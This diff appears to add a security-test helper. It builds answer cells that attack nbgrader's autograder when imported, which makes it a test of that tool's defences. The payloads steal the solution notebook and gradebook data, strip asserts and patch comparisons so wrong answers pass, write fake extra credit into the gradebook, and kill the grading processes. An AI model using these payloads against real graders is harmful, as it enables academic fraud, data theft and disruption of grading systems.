@@ -1,0 +1,90 @@
+"""What stock nbgrader lets a submission do, as code that runs when the submission is graded, if anything runs it."""
+
+from __future__ import annotations
+
+import textwrap
+
+# In a class body, which runs on import: of a handed-in notebook, definitions count and other statements do not.
+ATTACKS = {
+    "reads-the-solutions": """
+        import json
+        for cell in json.load(open("{course}/source/p1_mlp/p1_mlp.ipynb"))["cells"]:
+            if cell["cell_type"] == "code":
+                exec("".join(cell["source"]).replace("from .", "from "), globals())
+    """,
+    "drops-asserts": """
+        import ast
+        from IPython import get_ipython
+        class Drop(ast.NodeTransformer):
+            def visit_Assert(self, node):
+                return ast.Pass()
+        get_ipython().ast_transformers.append(Drop())
+    """,
+    "replaces-the-kernel": """
+        from IPython import get_ipython
+        async def nothing(*args, **kwargs):
+            return None
+        get_ipython().run_cell_async = nothing
+    """,
+    "displays-points": """
+        from IPython import get_ipython
+        from IPython.display import display
+        get_ipython().events.register("pre_run_cell", lambda info: display(14.0))
+    """,
+    "reads-the-gradebook": """
+        import sqlite3
+        stolen = sqlite3.connect("{course}/gradebook.db").execute("select source from source_cell").fetchall()
+        open("{loot}/stolen", "w").write(repr(stolen))
+    """,
+    "patches-torch": """
+        import builtins, torch
+        torch.allclose = torch.equal = builtins.abs = builtins.isinstance = lambda *args, **kwargs: True
+    """,
+    "gives-itself-credit": """
+        import os, sqlite3, time
+        def credit():
+            book = sqlite3.connect("{course}/gradebook.db")
+            book.execute("update grade set extra_credit = 99")
+            book.execute("update grade set manual_score = 0")
+            book.commit()
+        if os.fork() == 0:
+            os.setsid()
+            time.sleep(3)
+            credit()
+            os._exit(0)
+        credit()
+    """,
+    "kills-the-parent": """
+        import os, signal
+        os.kill(os.getppid(), signal.SIGKILL)
+        os.kill(-1, signal.SIGKILL)
+    """,
+}
+ALWAYS_EQUAL = '''
+class Equal(float):
+    """Whatever it is compared with, it is that."""
+    def __eq__(self, other): return True
+    def __lt__(self, other): return True
+    __gt__ = __le__ = __ge__ = __lt__
+    def __getattr__(self, name): return self
+    def __call__(self, *args, **kwargs): return self
+    def __iter__(self): return iter([self] * 9)
+    __getitem__ = __sub__ = __rsub__ = __add__ = __mul__ = __abs__ = lambda self, *args: self
+    def __hash__(self): return 0
+
+
+def softmax(*args): return Equal()
+def cross_entropy(*args): return Equal()
+def init_params(*args): return Equal()
+def forward(*args): return Equal()
+def loss_accuracy(*args): return Equal()
+def backward(*args): return Equal()
+def sgd(*args): return Equal()
+def train(*args, **kwargs): return Equal()
+'''
+
+
+def attack_cell(name: str, course: str, loot: str) -> str:
+    """The text of an answer cell that attacks while it is imported, and answers nothing."""
+    body = textwrap.dedent(ATTACKS[name]).replace("{course}", course).replace("{loot}", loot).strip()
+    return f"class Attack:\n{textwrap.indent(body, '    ')}\n{ALWAYS_EQUAL}"
